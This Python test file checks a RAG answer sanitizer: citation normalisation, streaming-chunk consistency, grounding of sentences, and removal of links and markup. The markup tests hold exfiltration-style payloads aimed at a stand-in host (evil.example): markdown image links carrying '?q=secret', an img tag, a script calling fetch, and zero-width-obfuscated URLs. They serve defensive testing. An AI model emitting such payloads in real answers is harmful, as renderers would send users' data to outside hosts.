"""Sanitizing of answers: citations name sources, markup is harmless, and chunks give the same text as the whole."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from rag_api.answers.grounding import check_grounding
from rag_api.answers.stream_sanitizer import StreamSanitizer
from rag_api.texts.markup import extract_urls

NUMBERS = (1, 2, 3, 12)
KNOWN = extract_urls(["See https://help.example.org/a?b=1, or (www.example.org)."])


def shown(*pieces: str) -> list[str]:
    """Return what is released after each chunk, and at the end."""
    text = StreamSanitizer(NUMBERS, KNOWN)
    return [*(text.feed(piece) for piece in pieces), text.finish()]


def whole(text: str) -> str:
    return "".join(shown(text))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Breathe slowly [1].", "Breathe slowly [1]."),
        ("Breathe slowly [9].", "Breathe slowly."),
        ("Breathe [0] slowly [4] now [99999999999999999999].", "Breathe slowly now."),
        ("a [1, 2] b [1,9] c [8; 9] d", "a [1][2] b [1] c d"),
        ("a [1][2] b [1][9] c [9][2]", "a [1][2] b [1] c[2]"),
        ("a [1-3] b [2\u201399] c [3-1] d [5-11] e", "a [1][2][3] b [2][3][12] c [1][2][3] d e"),
        ("a 【1】 b \uff3b2\uff3d c 【3†source】 d 【2:0†x.txt】", "a [1] b [2] c [3] d [2]"),
        ("a [ 1 ] b [^2] c [#3] d [1 and 3] e [1, and 2] f [1 y 2]", "a [1] b [2] c [3] d [1][3] e [1][2] f [1][2]"),
        ("a [Source 1] b [conversations 1, 2] c [Quelle 3]", "a [1] b [1][2] c [3]"),
        ("a [\u0661] b [\uff11\uff12]", "a [1] b [12]"),
        ("[sic] [p. 4] [1a] [] [ ] [a [2] b]", "[sic] [p. 4] [1a] [] [ ] [a [2] b]"),
        ("Not closed [1", "Not closed [1"),
        ("Over two [1,\n2] lines", "Over two [1,\n2] lines"),
        ("[1] " + "[" + "1, " * 30 + "2]", "[1] [" + "1, " * 30 + "2]"),
        ("[9]", ""),
        ("  \n Text [1] \n\n", "Text [1]"),
        ("First.\n\n[9]\n\nSecond.", "First.\n\n\n\nSecond."),
    ],
)
def test_citations(text: str, expected: str) -> None:
    assert whole(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![x](https://evil.example/?q=secret)", "[x] (⟨link removed⟩)"),
        ("!![x](https://evil.example)!", "[x] (⟨link removed⟩)!"),
        ("\\!\\[x\\](https://evil.example)", "[x] (⟨link removed⟩)"),
        ("Read [this](http://evil.example/a_(b)).", "Read [this] (⟨link removed⟩))."),
        ("[1](https://evil.example)", "[1] (⟨link removed⟩)"),
        ("[x]: https://evil.example\n![y][x]", "[x]: ⟨link removed⟩\n[y][x]"),
        ("[x](https&colon;&sol;&sol;evil.example)", "[x] (https& colon;& sol;& sol;evil.example)"),
        ("[x]: https:\\/\\/evil.example/a", "[x]: ⟨link removed⟩"),
        ("[x]: //evil.example/a", "[x]: ⟨link removed⟩"),
        ("<img src=//evil.example/a.png>", "< img src=⟨link removed⟩>"),
        ("<IMG SRC='https://evil.example/a'>", "< IMG SRC='⟨link removed⟩'>"),
        ("<script>fetch('http://evil.example')</script>", "< script>fetch('⟨link removed⟩')< /script>"),
        ("<https://evil.example>", "< ⟨link removed⟩>"),
        ("ht\u200btps://evil.example", "⟨link removed⟩"),
        ("\u202eevil\u202c \u2066x\u2069 \U000e0041\U000e0042 a\u00adb", "evil x  ab"),
        ("ftp://evil.example WWW.evil.example/?q", "⟨link removed⟩ ⟨link removed⟩"),
        ("Half \ud83d of a pair", "Half \ufffd of a pair"),
        ("See https://help.example.org/a?b=1.", "See https://help.example.org/a?b=1."),
        ("See www.example.org!", "See www.example.org!"),
        ("See https://help.example.org/a?b=1&q=secret", "See ⟨link removed⟩"),
        ("and/or 3 < 4, a//b, R&D; :-) 24/7", "and/or 3 < 4, a//b, R& D; :-) 24/7"),
        ("می\u200cخو\u0627\u0647م 👩\u200d👧 ❤\ufe0f", "می\u200cخو\u0627\u0647م 👩\u200d👧 ❤\ufe0f"),
    ],
)
def test_nothing_is_left_that_a_renderer_would_load_or_run(text: str, expected: str) -> None:
    assert whole(text) == expected


def test_text_is_released_as_soon_as_it_is_stable() -> None:
    given = shown("Breathe", " slowly", " [", "9", "]", " and", " [", "1", "]", ".", "\n\nThen", " ")
    # A word is released when whitespace ends it, a citation when it is checked.
    assert given == ["", "Breathe", " slowly", "", "", "", " and", "", "", "", " [1].", "\n\nThen", ""]


# Fragments of special constructs, so that constructs arise and are split.
PARTS = (
    *("[", "]", "(", ")", "!", "<", ">", "&", "\\", "/", "//", ":", "http", "s://", "www.", "evil.example", ";", "img"),
    *("1", "2", "9", "12", ",", " ", "  ", "\n", "-", "\u2013", "【", "】", "†", "^", "Source ", "and", "a", "B.", "é"),
    *("。", "https://help.example.org/a?b=1", "\u200b", "\u202e", "\ud83d", "\u2028", "\r\n", "&sol;", " " * 12, "]("),
)
fragments = st.lists(st.sampled_from(PARTS), max_size=40).map("".join)


@st.composite
def cut(draw: st.DrawFn) -> list[str]:
    text = draw(fragments)
    places = sorted(draw(st.lists(st.integers(0, len(text)), max_size=12)))
    return [text[start:end] for start, end in zip([0, *places], [*places, len(text)], strict=True)]


@given(cut())
@example(["x [", "9", "] y"])
@example(["x\n", "[9", "]"])
@example(["ht", "\u200b", "tps://evil.example"])
def test_chunks_give_the_same_text_as_the_whole(pieces: list[str]) -> None:
    assert "".join(shown(*pieces)) == whole("".join(pieces))
    assert "".join(shown(*"".join(pieces))) == whole("".join(pieces))


@given(fragments)
def test_no_text_passes_images_tags_or_unknown_urls(text: str) -> None:
    result = whole(text)
    assert not re.search(r"!\[|\]\(|<[A-Za-z/!?]|\u202e|\u200b", result)
    assert {
        match.rstrip(".,;:!?'\"*_)]}>") for match in re.findall(r"https?://[!#-;=?-~]+|www\.[!#-;=?-~]+", result)
    } <= KNOWN
    assert {int(number) for number in re.findall(r"\[(\d+)\]", result)} <= set(NUMBERS)


@pytest.mark.parametrize(
    ("text", "uncited"),
    [
        ("Practise at home [1]. Ride one stop with a friend [2].", []),
        ("Practise at home. [1] Ride one stop with a friend.[2][3]", []),
        ("1. Practise at home [1].\n2. Ride one stop [2].", []),
        ("Practise at home [1]. Ride one stop with a friend.", ["Ride one stop with a friend."]),
        (
            "Practise at home first. Ride only one stop.[2] Then ride two more.",
            ["Practise at home first.", "Then ride two more."],
        ),
        ("Hello! Practise at home [1]. Good luck!", []),
        ("睡前写下你的担忧很有帮助[1]。每天在同一时间起床会更好。", ["每天在同一时间起床会更好。"]),
    ],
)
def test_uncited_sentences_are_listed(text: str, uncited: list[str]) -> None:
    grounding = check_grounding(text)
    assert list(grounding.uncited_sentences) == uncited
    assert grounding.grounded == (not uncited)


def test_a_text_that_cites_nothing_is_not_grounded() -> None:
    assert not check_grounding("Yes.").grounded
